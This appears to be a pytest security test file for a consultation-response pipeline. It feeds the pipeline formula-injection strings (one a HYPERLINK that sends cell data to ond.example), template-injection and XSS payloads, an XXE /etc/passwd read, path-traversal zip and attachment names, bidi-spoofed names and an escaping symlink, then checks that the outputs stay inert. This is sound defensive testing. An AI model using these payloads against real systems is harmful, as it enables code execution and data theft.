"""What strangers send stays text: no code, no formula, no markup, no way out of the folders, nothing in the log."""

import json
import os
import re
import shutil
import subprocess
import sys
import zipfile
from email.message import EmailMessage
from io import BytesIO
from pathlib import Path

import docx
import openpyxl
import pytest

ROOT = Path(__file__).parent.parent
SECRET = "Kvitveisblomstring"  # stands in every answer, and must not stand in the log

ATTACKS = (
    "=HYPERLINK(\"http://ond.example/?x=\"&A1;\"klikk\")",
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "{{ 7*7 }} {% for x in ''.__class__.__mro__ %}x{% endfor %}",
    "{{ cycler.__init__.__globals__.os.system('touch hacket') }}",
    "<script>alert('hacket')</script><img src=x onerror=alert(1)>",
    "\" onmouseover=\"alert(1)",
    "</w:t></w:r></w:p><w:p><w:r><w:t>smuglet",
    "]]><!ENTITY x SYSTEM \"file:///etc/passwd\">&x;",
    "Planen \u202egnpj.exe\u202c bør\x07 bli\x00 kortere",
)


@pytest.fixture(scope="module")
def attacked(tmp_path_factory):
    """A case full of attacks, run once: (house, finished process)."""
    house = tmp_path_factory.mktemp("angrep")
    case = house / "inputs" / "sak"
    case.mkdir(parents=True)
    shutil.copytree(ROOT / "templates", house / "templates")
    shutil.copy(ROOT / "config.toml", house)
    (house / "hemmelig.txt").write_text("RS Setesdal\n\nHemmelig tekst utenfor mappen bør ikke leses.\n", encoding="utf-8")

    text = "RS Lister\nInnspill til handlingsplanen\n\n" + "\n\n".join(f"{a} Vi mener at {SECRET} bør prioriteres." for a in ATTACKS)
    (case / "Svar RS Lister.txt").write_text(text, encoding="utf-8")
    mail = EmailMessage()
    mail["From"] = "RS Setesdal <post@setesdal.example>"
    mail["Subject"] = "Innspill <script>alert(2)</script>"
    mail.set_content(f"Hei\n\nAnsvaret må plasseres tydeligere. {SECRET} må følges opp.\n")
    for name in ("../../utenfor.txt", "CON.txt", "x" * 300 + ".txt", "=1+1.txt", "snill\u202etxt.exe"):
        mail.add_attachment(f"{SECRET} som vedlegg.", filename=name)
    (case / "<script>alert(3)</script>".replace("/", "∕")).with_suffix(".eml").write_bytes(mail.as_bytes())
    package = BytesIO()
    with zipfile.ZipFile(package, "w") as archive:
        archive.writestr("../../../ut.txt", f"{SECRET} på vei ut.")
        archive.writestr("/etc/rot.txt", f"{SECRET} fra roten.")
    (case / "pakke.zip").write_bytes(package.getvalue())
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(["Nr", "Fokusområde", "Hovedmål", "Tiltak", "Ansvarlig", "Frist", "Status"])
    for n, attack in enumerate(("=1+1", "+cmd|x", "@SUM(1)", "-1+cmd|x", "<b>fet</b>", "{{ 7*7 }}"), 1):
        sheet.append([f"1.1.{n}", "Område 1", "Mål 1", attack, attack, "2026", "Pågår"])
        for cell in sheet[sheet.max_row]:
            cell.data_type = "s"
    book.save(case / "Handlingsplan.xlsx")
    if hasattr(os, "symlink"):
        os.symlink(house / "hemmelig.txt", case / "lenke.txt")
    before = {p for p in house.rglob("*") if "outputs" not in p.parts}
    done = subprocess.run([sys.executable, "-m", "pipeline", "run"], cwd=house, capture_output=True, text=True, encoding="utf-8",
                          env={**os.environ, "PYTHONPATH": str(ROOT)}, check=False)
    assert {p for p in house.rglob("*") if "outputs" not in p.parts} == before, "something was written outside outputs"
    return house, done


def test_the_run_goes_through(attacked):
    """Written; unread files are told with the exit code for them."""
    _, done = attacked
    assert done.returncode in (0, 6), done.stderr
    assert "Traceback" not in done.stderr


def test_no_cell_is_a_formula(attacked):
    """What looks like one is text in every workbook."""
    house, _ = attacked
    books = list((house / "outputs").rglob("*.xlsx"))
    assert books
    shown = []
    for path in books:
        for sheet in openpyxl.load_workbook(path):
            for row in sheet.iter_rows():
                for cell in row:
                    assert cell.data_type != "f" or not re.search(r"cmd|HYPERLINK|^=1\+1", str(cell.value)), (path.name, cell.coordinate)
                    shown.append(str(cell.value))
    assert any("=1+1" in value for value in shown), "and it is not lost either"


def test_template_code_in_an_answer_is_printed_as_it_stands(attacked):
    """Never run: neither 49 nor a file that it would make."""
    house, _ = attacked
    text = "\n".join(t.text or "" for t in docx.Document(house / "outputs" / "sak" / "vedlegg-2-innspill.docx").element.iter("{*}t"))
    assert "{{ 7*7 }}" in text
    assert "</w:t></w:r></w:p><w:p><w:r><w:t>smuglet" in text
    assert not list(house.rglob("hacket"))


def test_no_page_holds_markup_from_outside(attacked):
    """Every tag and attribute of an answer or a file name is escaped."""
    house, _ = attacked
    pages = list((house / "outputs").rglob("*.html"))
    assert pages
    for page in pages:
        told = page.read_text(encoding="utf-8")
        assert "<script>alert" not in told
        assert "<img src=x" not in told
        assert not re.search(r"<[^>]*\sonmouseover=", told)


def test_names_of_attachments_are_harmless(attacked):
    """No way up, no device, no bidi sign, no name of 300 characters."""
    house, _ = attacked
    sources = [json.loads(line)["source"] for line in
               (house / "outputs" / "sak" / "data" / "documents.jsonl").read_text(encoding="utf-8").splitlines()]
    assert len(sources) >= 10
    for source in sources:
        parts = source.split("/")
        assert ".." not in parts and "" not in parts
        assert not any(ord(c) < 32 or c in "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069" for c in source)
        assert not any(p.split(".")[0].upper() in {"CON", "NUL", "AUX"} for p in parts)
        assert all(len(p.encode()) <= 255 for p in parts)
    assert any("utenfor.txt" in s for s in sources)


@pytest.mark.skipif(not hasattr(os, "symlink"), reason="no links here")
def test_a_link_out_of_the_folder_is_named_and_not_followed(attacked):
    """What it leads to is read nowhere."""
    house, _ = attacked
    for path in (house / "outputs").rglob("*"):
        if path.is_file() and path.suffix in {".jsonl", ".json", ".html"}:
            assert "Hemmelig tekst utenfor" not in path.read_text(encoding="utf-8")
    register = json.loads((house / "outputs" / "sak" / "data" / "register.json").read_text(encoding="utf-8"))
    assert [f["source"] for f in register["findings"] if f["kind"] == "outside_link"] == ["lenke.txt"]


def test_the_log_holds_no_words_of_a_respondent(attacked):
    """Neither standard output nor standard error."""
    house, done = attacked
    assert SECRET in (house / "outputs" / "sak" / "data" / "documents.jsonl").read_text(encoding="utf-8")
    assert SECRET not in done.stdout + done.stderr
    assert "alert(" not in done.stdout
